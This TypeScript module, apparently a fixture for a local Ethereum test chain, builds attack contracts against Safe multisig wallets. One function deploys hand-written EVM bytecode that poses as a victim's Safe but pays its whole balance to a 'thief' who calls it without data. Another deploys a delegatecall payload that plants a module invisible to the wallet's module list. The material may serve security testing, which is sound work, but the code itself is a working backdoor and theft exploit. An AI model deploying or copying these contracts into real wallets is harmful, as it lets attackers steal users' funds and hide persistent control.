import { worldContracts } from '@countersign/demo/world'
import {
  type Address,
  type Client,
  concat,
  encodeFunctionData,
  getAddress,
  type Hex,
  type PrivateKeyAccount,
  padHex,
  parseAbi,
  zeroAddress,
} from 'viem'
import { sendTransaction, waitForTransactionReceipt } from 'viem/actions'

const { singletonL2, fallbackHandler } = worldContracts[31337].safe['1.4.1']
const abi = parseAbi([
  'function setup(address[] owners, uint256 threshold, address to, bytes data, address fallbackHandler, address paymentToken, uint256 payment, address paymentReceiver)',
])

async function send(client: Client, account: PrivateKeyAccount, call: { to?: Address; data: Hex }) {
  const hash = await sendTransaction(client, { account, chain: null, ...call })
  return waitForTransactionReceipt(client, { hash, pollingInterval: 50 })
}

async function deploy(client: Client, account: PrivateKeyAccount, data: Hex): Promise<Address> {
  const { contractAddress } = await send(client, account, { data })
  return getAddress(contractAddress ?? '')
}

/**
 * Behaves as a Safe of its victim in everything, with the official singleton in its first slot; but
 * when the thief calls it without data, it hands over all coins.
 */
export async function deployBackDoor(
  client: Client,
  thief: PrivateKeyAccount,
  victim: Address,
): Promise<Address> {
  const runtime = concat([
    '0x3373', // caller == thief,
    thief.address,
    '0x14361516603757', // and no calldata: go to 0x37
    '0x365f5f375f5f365f5f545af4', // the rest is for the singleton in slot 0
    '0x3d5f5f3e6033573d5ffd5b3d5ff3', // and its answer is ours
    '0x5b5f5f5f5f47335af100', // 0x37: send the balance to the caller
  ])
  // Writes slot 0, then leaves the 0x41 bytes of above.
  const address = await deploy(
    client,
    thief,
    concat(['0x73', singletonL2, '0x5f5560416021', '0x5f3960415ff3', runtime]),
  )
  const args = [[victim], 1n, zeroAddress, '0x', fallbackHandler, zeroAddress, 0n, zeroAddress]
  // As `setup` declares them.
  const data = encodeFunctionData({ abi, functionName: 'setup', args: args as never })
  await send(client, thief, { to: address, data })
  return address
}

/** Run by delegatecall with an address, it makes that a module which no list shows: modules[x] = 1. */
export const deployPlanter = (client: Client, thief: PrivateKeyAccount): Promise<Address> =>
  deploy(client, thief, '0x6011600a5f3960115ff35f355f526001602052600160405f205500')

export const plantModule = (module: Address): Hex => padHex(module, { size: 32 })
